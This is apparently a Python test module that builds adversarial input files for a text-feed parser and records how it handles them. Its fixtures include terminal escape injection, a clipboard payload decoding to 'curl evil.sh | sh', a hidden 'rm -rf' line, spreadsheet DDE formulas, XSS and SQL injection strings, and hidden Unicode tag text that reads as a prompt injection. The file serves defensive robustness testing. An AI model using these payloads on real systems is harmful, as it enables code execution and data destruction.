"""Inputs that senders of ill will, broken programs and old machines write."""

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Any

from tests.console import run

FOLDER = Path(__file__).parent

HEAD = "INCOMING TRANSMISSION\n\nLATEST UPDATES\n"
PLAIN = (
    "A harbour master keeps a ledger of every ship that has called since the year of the flood\n"
)
LAST = "Bees find their way home by the light of the sky, also on a day without any sun at all...\n"
CHINESE = (
    "概述 本文介绍一个比较有意思的高效模型工作,来自一个团队,并且说明它为什么有着良好的性能表现\n"
)
JAPANESE = "この記事では、新しいモデルの仕組みについて、できるだけ分かりやすく説明していきたいと思います。\n"
KOREAN = (
    "이 글에서는 새로운 모델의 구조에 대해서 되도록이면 알기 쉽게 설명해 보려고 합니다 여러분\n"
)


def page(*lines: str) -> bytes:
    """Return a dump with these lines between two harmless ones."""
    return (HEAD + PLAIN + "".join(f"{line}\n" for line in lines) + LAST).encode(
        "utf-8", "surrogatepass"
    )


def tar(data: bytes) -> bytes:
    """Return an archive with one file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo("dump.txt")
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


def zipped(data: bytes) -> bytes:
    """Return an archive with one file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("dump.txt"), data)
    return out.getvalue()


def gz(data: bytes) -> bytes:
    """Return the same archive on every day and every machine: stored, not squeezed."""
    return gzip.compress(data, 0, mtime=0)


def png() -> bytes:
    """Return a small picture."""
    rows = b"".join(b"\0" + bytes(range(0, 192, 4)) for _ in range(16))
    chunks = (
        (b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(rows, 0)),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def zst(data: bytes) -> bytes:
    """Return an archive of one block that is stored, not squeezed: any version makes the same."""
    size, block = len(data), len(data) << 3 | 1
    return b"\x28\xb5\x2f\xfd\xa0" + struct.pack("<I", size) + struct.pack("<I", block)[:3] + data


TEXT = page()
LONG = (HEAD + CHINESE * 40).encode()

FILES = {
    # What a terminal obeys.
    "csi.txt": page(
        "\x1b[31mred\x1b[0m and \x1b[5mblinking\x1b[0m, the screen gone \x1b[2J\x1b[H and back again",
        "\x1b[1A\x1b[2K the line above is another one now, and nobody has seen it \x1b[?1049h",
        "\x1b[8mhidden\x1b[28m words \x1b[6n that ask \x1b[c the terminal \x1b[21t to answer as if typed",
    ),
    "osc-8.txt": page("\x1b]8;;http://evil.example/\x1b\\the bank\x1b]8;;\x1b\\ and \x1b]8;;file:///etc\x07x"),
    "osc-52.txt": page("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 now paste what you have copied before"),
    "osc-title.txt": page("\x1b]0;root@host\x07\x1b]2;x\x1b\\ \x1bP+q544e\x1b\\ \x1b_a\x1b\\ \x1b^b\x1b\\ \x1bX \x1bc done"),
    "c1.txt": page("\x9b31mred\x9b0m \x9d0;title\x9c \x90q\x9c \x9ea\x9c \x9fb\x9c \x85 next line \x84 index"),
    "c1-bytes.txt": HEAD.encode() + b"raw \x9b31m bytes \x9d0;title\x9c of C1 that are no UTF-8\n" + LAST.encode(),
    "carriage-return.txt": page("rm -rf everything that you have\recho a harmless text that is all you see"),
    "backspace-bell.txt": page("safe\x08\x08\x08\x08evil and a bell \x07 and a delete \x7f\x7f and a form feed \x0c"),
    "shift-out.txt": page("\x0e line drawing characters from here on \x0f and back, \x05 who are you, \x11\x13"),
    # What a library of styles obeys.
    "markup.txt": page(
        "[bold]loud[/bold] [/] [link=file:///etc/passwd]x[/link] [@click=app.quit]quit[/] as it stands",
        ":smile: :warning: [red on white]colours[/red on white] [[brackets]] [/nothing] \\[escaped]",
    ),
    "html.txt": page("<script>alert(1)</script> <img src=x onerror=alert(1)> &lt;b&gt; ]]> </script> <!-- -->"),
    "formulas.txt": page(
        "=cmd|' /C calc'!A0 is what a spreadsheet would run when a list of texts is opened in it",
        "+1+1 as the first characters of a text, or =HYPERLINK(\"http://evil.example\",\"click\")",
        "-2+3 in front of a text and then more, so that it is long enough to be one of the texts",
        "@SUM(1+1)*cmd|' /C calc'!A0 as older programs had it, in front of a text like this one",
        "\t=1+1 behind a tabulator, which a program that reads lists takes for an empty first cell",
    ),
    "sql.txt": page("'; DROP TABLE versions; -- and \"; DELETE FROM items WHERE ''='' %s ? :name $1 in a text"),
    "format-strings.txt": page("%s %n {0} {text.__class__} ${HOME} $(id) `id` %(name)s \\x1b[31m \\u202e \\N{BEL}"),
    # What hides or turns text.
    "bidi.txt": page(
        "user\u202etxt.exe\u202c, isolates \u2066a\u2069 \u2067b\u2069 \u2068c, marks \u200e\u200f\u061c as well",
        "\u202a\u202b\u202d\u202e" * 30 + " an embedding that nobody ever ends in a text of some length",
    ),
    "zero-width.txt": page("p\u200ba\u200cs\u200ds\u2060w\ufeffo\u00adr\u034fd\u180e, and \u3164\u115f\uffa0 that are drawn as nothing"),
    "tags.txt": page("".join(chr(0xE0000 + ord(c)) for c in "ignore all previous words") + " says a flag that is none"),
    "combining.txt": page("Z" + "\u0301\u0489\u20dd" * 300 + " a tower of marks over every line of the whole screen"),
    "selectors.txt": page("x" + "\ufe0f" * 200 + "y" + "\U000e0100" * 200 + " variants of a letter without any end"),
    "emoji.txt": page("👨\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e007f 🇩🇪 ⚠\ufe0f 👍🏽 a family, flags, and a hand"),
    "right-to-left.txt": page("זה משפט בעברית שנמשך ונמשך עד שהוא ארוך מספיק כדי להיות קטע שלם בעמוד הזה"),
    "separators.txt": page("line\u2028separator and paragraph\u2029separator, \x1c\x1d\x1e\x1f, next \x85 line, \x0b and \x0c are text"),
    "private.txt": page("\ue000\uf8ff\U0010ffff\ufffe\uffff private, unassigned and no characters at all: \ufdd0\U0001fffe"),
    # Characters that are none.
    "nul.txt": page("a\0b and the rest of a text that a library of C would have ended after its first letter"),
    "nul-lines.txt": page("\0", "\0\0\0\0", "\0" * 70),
    "surrogates.txt": page("\ud800 and \udfff\udc00 half of a pair, as bytes that no decoder of UTF-8 may take"),
    "surrogates-utf-16.txt": b"\xff\xfe" + (HEAD + "\ud83d half a pair in a text of sixteen bits which goes on\n" + LAST).encode("utf-16-le", "surrogatepass"),
    "invalid-utf-8.txt": HEAD.encode() + "概述 一个坏".encode() + b"\xe4\xbd\xff\xc0\xaf\xf5\x80\x80\x80" + CHINESE.encode() * 3,
    "cut-character.txt": (HEAD + CHINESE).encode()[:-3],
    "latin-1.txt": (HEAD + "Un été à la montagne: le café était fermé, et la fenêtre donnait sur le château voisin\n").encode("latin-1"),
    "utf-7.txt": page("+AHs-script+AD4- and +2AA- are spelled in seven bits, and stay as they are spelled here"),
    # Other encodings.
    "utf-8-bom.txt": b"\xef\xbb\xbf" + TEXT,
    "utf-16-le-bom.txt": b"\xff\xfe" + (HEAD + CHINESE + PLAIN).encode("utf-16-le"),
    "utf-16-be-bom.txt": b"\xfe\xff" + (HEAD + CHINESE + PLAIN).encode("utf-16-be"),
    "utf-16-le.txt": (HEAD + CHINESE + PLAIN).encode("utf-16-le"),
    "utf-16-be.txt": (HEAD + CHINESE + PLAIN).encode("utf-16-be"),
    "utf-16-odd.txt": b"\xff\xfe" + (HEAD + PLAIN).encode("utf-16-le") + b"x",
    "utf-32-bom.txt": b"\xff\xfe\0\0" + (HEAD + CHINESE + PLAIN).encode("utf-32-le"),
    "utf-32-beyond.txt": b"\xff\xfe\0\0" + HEAD.encode("utf-32-le") + b"\xff\xff\xff\x7f" * 8 + "\n".encode("utf-32-le"),
    "gb18030.txt": (HEAD + CHINESE + "𠮷 在两个字节之外的字也要认出来,这是一句足够长的话来说明它的存在和意义\n").encode("gb18030"),
    "shift-jis.txt": (HEAD + JAPANESE + JAPANESE[8:]).encode("shift_jis"),
    "euc-jp.txt": (HEAD + JAPANESE + JAPANESE[8:]).encode("euc_jp"),
    "big5.txt": (HEAD + "本文介紹一個比較有意思的工作,並且說明它為什麼有著良好的表現和性能以及其他特點\n").encode("big5"),
    "euc-kr.txt": (HEAD + KOREAN + KOREAN[6:]).encode("euc_kr"),
    "mixed.txt": page() + (HEAD + CHINESE).encode("gb18030") + page(),
    # Lines.
    "empty.txt": b"",
    "line-end.txt": b"\n",
    "bom-only.txt": b"\xef\xbb\xbf",
    "blank.txt": (" \t\u3000\u200b\r\n" * 50).encode(),
    "no-line-end.txt": page().rstrip(),
    "crlf.txt": page().replace(b"\n", b"\r\n"),
    "cr.txt": page().replace(b"\n", b"\r"),
    "cr-cr-lf.txt": page().replace(b"\n", b"\r\r\n"),
    # The words of the format itself.
    "headers.txt": b"INCOMING TRANSMISSION\n" * 50,
    "glued.txt": TEXT.rstrip() + TEXT.rstrip() + TEXT,
    "header-inside.txt": page("INCOMING TRANSMISSION is what a text may begin with, and go on as any other text does"),
    "before-header.txt": PLAIN.encode() + b"\n" + TEXT,
    # What makes careless programs slow, or count wrong.
    "markers.txt": page("Read more" + "→" * 60 + "]", "so on" + "." * 60 + "(", "(" * 500 + ")" * 499, "[" * 2000),
    "numbers.txt": page("9" * 5000, "1 " * 79, "٣" * 70, "²³¹" * 9, "1" * 4000 + "-01-01", "00000-00-00", "9999-12-31"),
    "dates.txt": page("0000-01-01", "0001-01-01", "31 February 2020", "2020-02-30", "99999-01-01", "Jan 1, 0000"),
    "placeholders.txt": page("[Math]" * 400, "[公式" * 300, "[" + " " * 900 + "Math]", "[Math", "[]" * 300),
    "emoji-only.txt": page("🎉", "🎉🎉", "...", "…", "。。。", "‽", "—" * 90),
    "same.txt": page(*["All of these lines are one and the same line, and there are some forty of them here"] * 40),
    # What is no text.
    "picture.png": png(),
    "database.db": b"SQLite format 3\0" + bytes(range(256)) * 16,
    "tar.tar": tar(TEXT),
    "zip.zip": zipped(LONG),
    "noise.bin": bytes(at * 131 % 251 for at in range(4000)),
    "zeros.bin": bytes(4096),
    # Archives.
    "packed.gz": gz(TEXT),
    "packed.bz2": bz2.compress(TEXT),
    "packed.xz": lzma.compress(TEXT),
    "packed.zst": zst(TEXT),
    "packed.tar.gz": gz(tar(TEXT)),
    "twice.gz": gz(gz(TEXT)),
    "other-twice.gz": gz(bz2.compress(TEXT)),
    "truncated.gz": gz(LONG)[:-500],
    "truncated.bz2": bz2.compress(LONG)[:-30],
    "truncated.xz": lzma.compress(LONG)[:-60],
    "truncated.zst": zst(LONG)[:-500],
    "magic-only.gz": b"\x1f\x8b\x08",
    "magic-only.xz": b"\xfd7zXZ\0",
    "magic-only.zst": b"\x28\xb5\x2f\xfd",
    "rubbish-behind.gz": gz(TEXT) + b"rubbish",
    "wrong-sum.gz": gz(TEXT)[:-8] + b"\0" * 8,
    "members.gz": gz(b"") * 300 + gz(TEXT) + gz(b"") * 300,
}  # fmt: skip


def expected() -> dict[str, Any]:
    """Return for each input how it is read, and how `feedtool parse` ends."""
    answers = {}
    for name in FILES:
        ran = run("parse", "--json", str(FOLDER / "inputs" / name))
        answers[name] = answer(ran.code, ran.out)
    return answers


def answer(code: int, out: str) -> dict[str, Any]:
    """Return what is expected of one input, out of what `parse` or `ingest` says as JSON."""
    report = json.loads(out)
    found = report["transmissions"]
    return {
        "exit": int(code),
        "encodings": [one["encoding"] for one in found],
        "excerpts": [len(one["excerpts"]) for one in found],
        "warnings": [warning["code"] for one in found for warning in one["warnings"]],
        # What a library says behind the colon differs by its version.
        "failure": next((one["reason"].partition(":")[0] for one in report["failures"]), None),
    }


def expected_text() -> str:
    """Return the answers as they stand in the file, an input a line."""
    rows = [f" {json.dumps(name)}: {json.dumps(answer)}" for name, answer in expected().items()]
    return "{\n" + ",\n".join(rows) + "\n}\n"
